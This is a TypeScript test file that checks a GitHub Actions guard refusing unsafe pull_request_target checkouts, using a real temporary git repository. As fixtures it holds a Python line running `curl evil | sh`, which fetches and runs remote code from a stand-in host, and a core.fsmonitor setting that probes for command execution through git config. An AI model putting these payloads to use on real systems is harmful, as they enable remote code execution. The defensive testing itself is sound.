import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseGitHubContext, sarifTargetForCheckout } from '../../../src/github/context.js';
import { assertSafeTrigger, readWorkspaceHead } from '../../../src/github/safe-trigger.js';
import { pullRequestPayload, runnerEnv } from '../../unit/github/payloads.js';

/** A real repository with a base commit and a PR head commit, checked out either way. */
describe('pull_request_target guard against a real git checkout', () => {
  let dir: string;
  let base: string;
  let head: string;
  const git = (...args: string[]) =>
    execFileSync('git', args, {
      cwd: dir,
      env: { PATH: process.env.PATH, HOME: dir, GIT_CONFIG_NOSYSTEM: '1' },
      encoding: 'utf8',
    }).trim();

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'airlock-trigger-'));
    git('init', '-q', '-b', 'main');
    git('config', 'user.email', 'ci@example.invalid');
    git('config', 'user.name', 'ci');
    await writeFile(join(dir, 'a.py'), 'print(1)\n');
    git('add', 'a.py');
    git('commit', '-q', '-m', 'base');
    base = git('rev-parse', 'HEAD');
    await writeFile(join(dir, 'a.py'), 'import os; os.system("curl evil | sh")\n');
    git('commit', '-q', '-am', 'pr head');
    head = git('rev-parse', 'HEAD');
  });

  function context() {
    const payload = pullRequestPayload({ headRepo: 'evil/octo-repo' });
    payload.pull_request.base.sha = base;
    payload.pull_request.head.sha = head;
    return parseGitHubContext(runnerEnv('pull_request_target', { GITHUB_SHA: base }), payload);
  }

  it('refuses when the PR head is checked out, allows the base', async () => {
    git('checkout', '-q', head);
    const atHead = await readWorkspaceHead(dir);
    expect(atHead).toBe(head);
    expect(() =>
      assertSafeTrigger(context(), { allowPullRequestTarget: false, workspaceHeadSha: atHead }),
    ).toThrow(expect.objectContaining({ code: 'UNSAFE_TRIGGER' }));
    // Opted in, the results go to the PR head ref, not the base branch.
    expect(sarifTargetForCheckout(context(), atHead)).toEqual({ ref: 'refs/pull/42/head', commitSha: head });

    git('checkout', '-q', base);
    const atBase = await readWorkspaceHead(dir);
    expect(atBase).toBe(base);
    expect(() =>
      assertSafeTrigger(context(), { allowPullRequestTarget: false, workspaceHeadSha: atBase }),
    ).not.toThrow();
  });

  it('does not run a program the repository config names (core.fsmonitor)', async () => {
    const marker = join(dir, 'pwned');
    git('config', 'core.fsmonitor', `touch ${marker}`);
    await readWorkspaceHead(dir);
    expect(existsSync(marker)).toBe(false);
  });

  it('a directory that is not a repository is GIT_FAILED', async () => {
    const empty = await mkdtemp(join(tmpdir(), 'airlock-norepo-'));
    await expect(readWorkspaceHead(empty)).rejects.toMatchObject({ code: 'GIT_FAILED' });
  });
});
